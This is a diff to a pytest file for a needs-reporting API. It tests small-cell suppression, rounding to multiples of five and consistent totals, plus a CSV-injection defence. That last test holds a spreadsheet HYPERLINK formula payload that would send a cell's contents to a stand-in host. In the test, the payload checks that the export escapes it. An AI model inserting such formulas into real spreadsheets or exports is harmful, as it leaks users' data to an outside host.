@@ -92,6 +92,13 @@ def _seed_needs(office: Office) -> None:
                 office.family_with_needs(municipality, [domain])
 
 
+def rounded(true: int, base: int = 5) -> set[int]:
+    """What a true count may be published as: itself when a multiple of the base, else the
+    multiple just below or just above it (app/reports/protection.py)."""
+    below = true - true % base
+    return {true} if below == true else {below, below + base}
+
+
 def test_need_pattern_report_publishes_large_cells_and_hides_small_ones(office: Office) -> None:
     _seed_needs(office)
 
@@ -99,29 +106,53 @@ def test_need_pattern_report_publishes_large_cells_and_hides_small_ones(office: 
 
     assert body["k"] == 5
     cells = _cells(body)
-    assert cells[("bolig", "3107")] == {
+    bolig = cells[("bolig", "3107")]
+    assert bolig["families"] in rounded(6)
+    # One cell key for the cell: six families with a need each are six needs, shown alike.
+    assert bolig == {
         "domain": "bolig",
         "municipality_code": "3107",
-        "families": 6,
-        "needs": 6,
+        "families": bolig["families"],
+        "needs": bolig["families"],
         "suppressed": False,
     }
     assert cells[("bolig", "3105")]["families"] is None
     assert cells[("bolig", "3105")]["needs"] is None
     assert cells[("bolig", "3105")]["suppressed"] is True
-    # Secondary suppression: with the row total published, one hidden cell in the row could be
-    # worked out from the others, so at least one more is hidden in its row and its column.
-    bolig_row = [row for (domain, _m), row in cells.items() if domain == "bolig"]
-    column_3105 = [row for (_d, m), row in cells.items() if m == "3105"]
-    assert sum(row["suppressed"] for row in bolig_row) >= 2
-    assert sum(row["suppressed"] for row in column_3105) >= 2
-    assert cells[("helse", "3107")]["families"] == 7
+    # Only the small cell is hidden: rounding, not more hidden cells, keeps it from being
+    # worked out from its row and column.
+    assert [key for key, row in cells.items() if row["suppressed"]] == [("bolig", "3105")]
+    assert cells[("helse", "3107")]["families"] in rounded(7)
+    assert cells[("okonomi", "3101")]["families"] == 5
     row_totals = {row["domain"]: row for row in body["row_totals"]}
-    assert row_totals["bolig"]["families"] == 13
+    assert row_totals["bolig"]["families"] in rounded(13)
     assert row_totals["helse"]["families"] == 20
     column_totals = {row["municipality_code"]: row for row in body["column_totals"]}
     assert column_totals["3105"]["families"] == 15
     assert body["total"] == {"families": 50, "needs": 50, "suppressed": False}
+    shown = [row[m] for row in body["rows"] for m in ("families", "needs") if row[m] is not None]
+    assert all(value % 5 == 0 for value in shown)
+
+
+def test_the_same_question_gets_the_same_numbers_however_it_is_asked(office: Office) -> None:
+    _seed_needs(office)
+
+    two_way = office.report("needs", group_by="domain,municipality")
+    again = office.report("needs", group_by="domain,municipality")
+    one_way = office.report("needs", group_by="domain")
+    turned = office.report("needs", group_by="municipality,domain")
+    wide = office.report("needs", group_by="domain,municipality", **{"from": "2020", "to": "2100"})
+
+    assert again == two_way
+    assert {k: v for k, v in wide.items() if k not in ("from", "to")} == {
+        k: v for k, v in two_way.items() if k not in ("from", "to")
+    }
+    by_domain = {row["domain"]: row["families"] for row in one_way["rows"]}
+    assert by_domain == {row["domain"]: row["families"] for row in two_way["row_totals"]}
+    assert by_domain == {row["domain"]: row["families"] for row in turned["column_totals"]}
+    assert {(r["domain"], r["municipality_code"]): r["families"] for r in turned["rows"]} == {
+        key: row["families"] for key, row in _cells(two_way).items()
+    }
 
 
 def test_csv_holds_the_same_suppressed_table(office: Office) -> None:
@@ -256,3 +287,30 @@ def test_reports_hold_no_free_text_but_approved_barrier_texts(
         approved
         in office.client.get(f"{API}/reports/barriers.csv", headers=office.coordinator).text
     )
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_a_barrier_text_that_looks_like_a_formula_is_plain_text_in_the_csv(
+    office: Office, session: Session, start: str
+) -> None:
+    text = f'{start}HYPERLINK("http://example.invalid/?d="&A1;"Søk her")'
+    session.add(
+        Barrier(
+            category=BarrierCategory.routine,
+            domain="bolig",
+            responsible_level=ResponsibleLevel.municipal,
+            text=text,
+            municipality_code="3107",
+            status=BarrierStatus.approved,
+            created_by_id=office.caseworker_user.id,
+        )
+    )
+    session.commit()
+
+    download = office.client.get(f"{API}/reports/barriers.csv", headers=office.coordinator)
+
+    assert download.status_code == 200, download.text
+    [line] = [row for row in csv.DictReader(io.StringIO(download.text)) if row["table"] == "texts"]
+    # A spreadsheet shows it as the words it is, and never runs it (OWASP CSV injection).
+    assert line["text"] == f"'{text}"
+    assert office.report("barriers")["texts"][0]["text"] == text
